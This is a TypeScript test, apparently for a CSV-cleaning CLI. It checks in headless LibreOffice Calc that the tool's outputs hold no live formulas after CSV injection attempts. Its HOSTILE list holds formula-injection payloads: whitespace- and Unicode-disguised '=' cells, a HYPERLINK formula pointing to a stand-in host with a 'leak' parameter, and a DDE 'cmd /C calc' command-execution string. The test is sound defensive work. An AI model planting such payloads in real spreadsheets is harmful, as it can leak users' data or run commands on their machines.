/**
 * Issue 16 item 7 against a real spreadsheet: LibreOffice Calc (Debian's libreoffice-calc-nogui)
 * opens every CSV output the way the issue did, with "Remove spaces" (trim) and "Evaluate
 * formulas" on, and saves it as flat ODS: no cell may come back as a formula. Where soffice is
 * not installed the test says it was skipped; it is not in .ci/run (a large install).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/cli.js';

const SOFFICE = [process.env.SOFFICE_PATH, '/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => p && existsSync(p));
const tmp = mkdtempSync(join(tmpdir(), 'umkm-libreoffice-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** Cells that hide a formula from a check of the first character, and the plain ones. */
const HOSTILE = [
  '  =1+1',
  ' =HYPERLINK("http://x.example/?leak","klik")',
  '\u00a0=2+2',
  '\uff1d3+3',
  '\n=4+4',
  ' @SUM(1)',
  "  -2+3+cmd|' /C calc'!A0",
  '  +A1',
  '\u3000=5+5',
  '\t=6+6',
  '=7+7',
];

const cell = (v: string) => (/[;"\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

describe.skipIf(!SOFFICE)('the CSV outputs in LibreOffice Calc with "Remove spaces" and "Evaluate formulas"', () => {
  it('hold no live formula, whatever the kecamatan typed', () => {
    const lines = ['NO;NIK;NAMA;ALAMAT;BIDANG USAHA;NO HP;KETERANGAN'];
    HOSTILE.forEach((h, i) => {
      // One row accepted (submission.csv carries normalised values), one rejected (rejected.csv the originals).
      lines.push([String(i + 1), `327508010190${String(i + 1).padStart(4, '0')}`, `${h} NAMA${i}`, h, h, '081234567801', h].map(cell).join(';'));
      lines.push([String(i + 100), '3275', h, h, h, h, h].map(cell).join(';'));
    });
    const input = join(tmp, 'usulan.csv');
    writeFileSync(input, `${lines.join('\r\n')}\r\n`);
    const out = join(tmp, 'out');
    const run = runCli(['clean', input, '--out', out, '--as-of', '2021-05-20', '--no-xlsx', '--quiet']);
    expect(run.code, run.stderr).toBe(0);

    const files = ['submission.csv', 'rejected.csv', 'review.csv', 'audit.csv'].map((f) => join(out, f));
    // CSV filter tokens: comma, ", UTF-8, from line 1, -, en-US, quoted as text off, special
    // numbers on, -, -, remove spaces ON, -, evaluate formulas ON.
    const r = spawnSync(
      SOFFICE as string,
      [
        '--headless',
        `-env:UserInstallation=${pathToFileURL(join(tmp, 'profile')).href}`,
        '--infilter=CSV:44,34,76,1,,1033,false,true,false,false,true,-1,true',
        '--convert-to',
        'fods',
        '--outdir',
        join(tmp, 'calc'),
        ...files,
      ],
      { encoding: 'utf8', timeout: 120_000 },
    );
    expect(r.status, r.stderr).toBe(0);
    let cells = 0;
    for (const f of ['submission', 'rejected', 'review', 'audit']) {
      const xml = readFileSync(join(tmp, 'calc', `${f}.fods`), 'utf8');
      cells += (xml.match(/<table:table-cell /g) ?? []).length;
      expect(xml.match(/table:formula="[^"]*"/g), f).toBeNull();
    }
    // The sheets were read: rows of both kinds, every hostile cell among them.
    const rejected = readFileSync(join(tmp, 'calc', 'rejected.fods'), 'utf8');
    expect(rejected).toContain('HYPERLINK');
    expect(cells).toBeGreaterThan(100);
  }, 180_000);
});
